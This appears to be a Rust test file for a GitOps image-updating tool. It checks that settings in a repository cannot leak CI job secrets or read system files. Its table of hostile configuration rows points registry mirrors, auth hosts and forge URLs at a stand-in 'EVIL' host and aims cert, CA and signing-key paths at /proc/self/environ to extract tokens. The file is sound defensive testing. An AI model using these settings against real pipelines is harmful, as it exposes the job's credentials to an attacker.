//! A repository that wants the secrets of the job: no setting in it sends one to a host of its choice, with any command.

use tagboat::config;

use crate::support::http_double::{Double, ReceivedRequest, Reply};
use crate::support::repository::Bare;
use crate::support::repository::git;
use crate::support::secret_leaks;
use crate::support::tagboat::Tagboat;

/// A secret of the job, as a variable and its value.
type Planted = (&'static str, &'static str);

/// What the repository's `tagboat.yaml` sets, the image in its manifest, and the secret that it wants. `EVIL` is the host of the
/// listener.
#[rustfmt::skip]
const SETTINGS: &[(&str, &str, Planted)] = &[
    // the setting                                                                                             image                     the secret
    ("registries: { EVIL: { plain-http: true, username-env: AWS_ACCESS_KEY_ID, password-env: AWS_SECRET_ACCESS_KEY } }", "EVIL/x/y:1.0",  ("AWS_SECRET_ACCESS_KEY", "planted-secret-of-aws")),
    ("registries: { EVIL: { plain-http: true, token-env: DEPLOY_TOKEN } }",                                    "EVIL/x/y:1.0",           ("DEPLOY_TOKEN", "planted-deploy-token")),
    ("registries: { ghcr.io: { mirror: 'http://EVIL' } }",                                                     "ghcr.io/x/y:1.0",        ("GITHUB_TOKEN", "planted-token-of-github")),
    ("registries: { docker.io: { mirror: 'http://EVIL/hub' } }",                                               "x/y:1.0",                ("TAGBOAT_REGISTRY_DOCKER_IO_TOKEN", "planted-token-of-the-hub")),
    ("registries: { registry.invalid: { mirror: EVIL, plain-http: true } }",                                   "registry.invalid/x:1.0", ("CI_JOB_TOKEN", "planted-token-of-gitlab")),
    ("registries: { 123456789012.dkr.ecr.eu-west-1.amazonaws.com: { mirror: 'http://EVIL' } }", "123456789012.dkr.ecr.eu-west-1.amazonaws.com/x:1.0", ("AWS_SECRET_ACCESS_KEY", "planted-secret-of-aws")),
    ("registries: { registry.invalid: { auth-hosts: [EVIL] } }",                                               "EVIL/x/y:1.0",           ("TAGBOAT_REGISTRY_REGISTRY_INVALID_PASSWORD", "planted-password-of-a-registry")),
    ("registries: { EVIL: { plain-http: true, client-cert-file: /proc/self/environ } }",                       "EVIL/x/y:1.0",           ("DEPLOY_TOKEN", "planted-deploy-token")),
    ("registries: { EVIL: { ca-file: /proc/self/environ } }",                                                  "EVIL/x/y:1.0",           ("DEPLOY_TOKEN", "planted-deploy-token")),
    ("forge: { kind: github, url: 'http://EVIL', repository: a/b }",                                           "EVIL/x/y:1.0",           ("TAGBOAT_FORGE_TOKEN", "planted-token-of-the-forge")),
    ("forge: { kind: gitea, url: 'http://EVIL', repository: a/b }",                                            "EVIL/x/y:1.0",           ("FORGEJO_TOKEN", "planted-token-of-forgejo")),
    ("forge: { kind: gitlab, url: 'http://EVIL', repository: a/b }",                                           "EVIL/x/y:1.0",           ("GITLAB_TOKEN", "planted-personal-token")),
    ("forge: { kind: azure-devops, url: 'http://EVIL', repository: a/b/c }",                                   "EVIL/x/y:1.0",           ("SYSTEM_ACCESSTOKEN", "planted-token-of-azure")),
    ("git: { sign: { format: ssh, key: /proc/self/environ } }",                                                "EVIL/x/y:1.0",           ("TAGBOAT_SIGNING_KEY", "planted-signing-key")),
];

const COMMANDS: &[&[&str]] = &[&["list"], &["plan"], &["edit"], &["explain", "y"], &["check"], &["run"]];

/// Asks for every kind of login.
fn evil(request: &ReceivedRequest) -> Reply {
    let scheme = if request.path().starts_with("/v2") { "Basic realm=\"evil\"" } else { "Bearer realm=\"/token\"" };
    Reply::new(401, "{}").header("www-authenticate", scheme)
}

#[tokio::test(flavor = "multi_thread")]
async fn repository_sends_no_secret_to_a_host_of_its_choice() {
    assert!(SETTINGS.len() * COMMANDS.len() >= 60);
    for (setting, image, (variable, secret)) in SETTINGS {
        let listener = Double::start(evil).await;
        let filled = |text: &str| text.replace("EVIL", &listener.host());
        let folder = tempfile::tempdir().unwrap();
        let bare = Bare::new(folder.path(), "gitops");
        let manifest = format!("kind: Pod\nspec:\n  containers:\n  - image: {}\n", filled(image));
        bare.commit("main", &[(config::FILE_NAME, &filled(setting)), ("app.yaml", &manifest)], "Deploy");
        git(folder.path(), &["clone", "--quiet", &bare.url(), "checkout"]);
        let checkout = folder.path().join("checkout").display().to_string();
        let secrets = secret_leaks::secrets(secret_leaks::VARIABLES.iter().copied().chain([(*variable, *secret)]));
        for command in COMMANDS {
            // AWS itself receives no request: no test reaches anything but loopback.
            let tagboat = Tagboat::new().with(variable, secret).with("HTTPS_PROXY", "http://127.0.0.1:9");
            let output = tagboat.run(&[*command, &["-C", &checkout]].concat());
            let printed = format!("{}{}", output.stdout, output.log);
            assert_eq!(secret_leaks::found(&secrets, printed.as_bytes()), [""; 0], "{setting}: {command:?} prints");
            for request in listener.received() {
                let sent = format!("{} {} {:?} {}", request.method, request.target, request.headers, request.body);
                assert_eq!(
                    secret_leaks::found(&secrets, sent.as_bytes()),
                    [""; 0],
                    "{setting}: {command:?} sends {sent}"
                );
            }
        }
    }
}

/// The same settings work for the operator, so the rows above fail because of who sets them.
#[tokio::test(flavor = "multi_thread")]
async fn operator_sends_a_credential_to_the_host_that_it_names() {
    let listener = Double::start(evil).await;
    let host = listener.host();
    let folder = tempfile::tempdir().unwrap();
    let bare = Bare::new(folder.path(), "gitops");
    bare.commit("main", &[("app.yaml", &format!("image: {host}/x/y:1.0\n"))], "Deploy");
    let config = format!("registries: {{ '{host}': {{ plain-http: true, token-env: DEPLOY_TOKEN }} }}\n");
    let tagboat = Tagboat::new().with_config(&config).with("DEPLOY_TOKEN", "planted-deploy-token");
    tagboat.run(&["plan", "-C", &bare.url()]);
    assert!(
        listener.received().iter().any(|request| request.header("authorization").is_some()),
        "{:?}",
        listener.received()
    );
}

#[cfg(unix)]
#[test]
fn reads_no_file_outside_the_repository() {
    let folder = tempfile::tempdir().unwrap();
    let link = folder.path().join(config::FILE_NAME);
    for target in ["/proc/self/environ", "/dev/null", "/etc/passwd"] {
        std::os::unix::fs::symlink(target, &link).unwrap();
        let tagboat = Tagboat::new().with("DEPLOY_TOKEN", "planted-deploy-token");
        for command in COMMANDS.iter().filter(|command| !["check", "run", "plan"].contains(&command[0])) {
            let output = tagboat.run(&[*command, &["-C", &folder.path().display().to_string()]].concat());
            assert_eq!(output.code, 64, "{command:?}: {output:?}");
            let printed = format!("{}{}", output.stdout, output.stderr);
            assert!(printed.contains("a symbolic link is not followed"), "{command:?}: {printed}");
            assert!(!printed.contains("planted-deploy-token") && !printed.contains("root:"), "{command:?}: {printed}");
        }
        std::fs::remove_file(&link).unwrap();
    }
}

#[test]
fn run_ignores_and_reports_another_configuration_in_the_checkout() {
    let folder = tempfile::tempdir().unwrap();
    let bare = Bare::new(folder.path(), "gitops");
    bare.commit(
        "main",
        &[(config::FILE_NAME, "rules: [{ policy: ignore }]\n"), ("app.yaml", "image: nginx:1.0\n")],
        "Deploy",
    );
    git(folder.path(), &["clone", "--quiet", &bare.url(), "checkout"]);
    let checkout = folder.path().join("checkout");
    let forge = format!("forge: {{ kind: local, folder: {} }}\n", folder.path().join("pulls").display());
    // Auto-merge, commits to main, and no valid configuration at all: none of it counts.
    for other in ["rules: [{ mode: commit }]\ngit: { base: main }\n", "polices: {}\n"] {
        std::fs::write(checkout.join(config::FILE_NAME), other).unwrap();
        for command in [&["run", "--dry-run"][..], &["run"]] {
            let at = checkout.display().to_string();
            let arguments = [command, &["-C", &at]].concat();
            let output = Tagboat::new().with_config(&forge).run(&arguments);
            assert_eq!(output.code, 0, "{output:?}");
            assert!(output.stderr.contains("differs from the one on the base branch main"), "{output:?}");
            assert!(output.stdout.contains("nothing to change"), "{output:?}");
        }
    }
    assert_eq!(bare.branches().len(), 1);
}

/// A `--config` inside the checkout is a file of its author, from whichever folder the command runs.
#[test]
fn configuration_inside_the_checkout_belongs_to_the_repository() {
    let folder = tempfile::tempdir().unwrap();
    let bare = Bare::new(folder.path(), "gitops");
    let files =
        [("ci.yaml", "registries: { a.test: { token-env: DEPLOY_TOKEN } }\n"), ("apps/app.yaml", "image: nginx:1.0\n")];
    bare.commit("main", &files, "Deploy");
    git(folder.path(), &["clone", "--quiet", &bare.url(), "checkout"]);
    let (checkout, config) = (folder.path().join("checkout"), folder.path().join("checkout/ci.yaml"));
    for (command, folder) in [("list", "."), ("list", "apps"), ("plan", "apps"), ("run", "."), ("check", "apps")] {
        let at = checkout.join(folder).display().to_string();
        let output = Tagboat::new().run(&[command, "-C", &at, "--config", config.to_str().unwrap()]);
        assert_eq!(output.code, 64, "{command} {folder}: {output:?}");
        assert!(output.log.contains("`token-env` is not allowed"), "{command} {folder}: {output:?}");
    }
    // Outside, the same file is the operator's.
    let outside = checkout.join("../operator.yaml");
    std::fs::write(&outside, "rules: [{ policy: ignore }]\n").unwrap();
    let output =
        Tagboat::new().run(&["list", "-C", &checkout.display().to_string(), "--config", outside.to_str().unwrap()]);
    assert!(output.code == 0 && output.stdout.contains("operator.yaml:1"), "{output:?}");
}

/// No setting of the repository writes pull requests outside of it.
#[cfg(unix)]
#[test]
fn local_forge_of_the_repository_stays_inside_it() {
    let place = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let bare = Bare::new(place.path(), "gitops");
    git(place.path(), &["clone", "--quiet", &bare.url(), "checkout"]);
    let checkout = place.path().join("checkout");
    std::os::unix::fs::symlink(outside.path(), checkout.join("link")).unwrap();
    let elsewhere = outside.path().display().to_string();
    #[rustfmt::skip]
    let rows = [
        (format!("folder: {elsewhere}"),                  "leads out of it"),
        ("folder: ../pulls".to_owned(),                   "leads out of it"),
        ("folder: link/pulls".to_owned(),                 "leads out of it"),
        ("url: 'https://a.test/../../../pulls', repository: a/b".to_owned(), "needs a folder, not a URL"),
    ];
    for (setting, cause) in rows {
        let config = format!("forge: {{ kind: local, {setting} }}\n");
        bare.commit("main", &[(config::FILE_NAME, &config)], "Configure");
        let output = Tagboat::new().run(&["run", "-C", &checkout.display().to_string()]);
        assert!(output.code != 0 && output.stderr.contains(cause), "{setting}: {output:?}");
    }
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
}
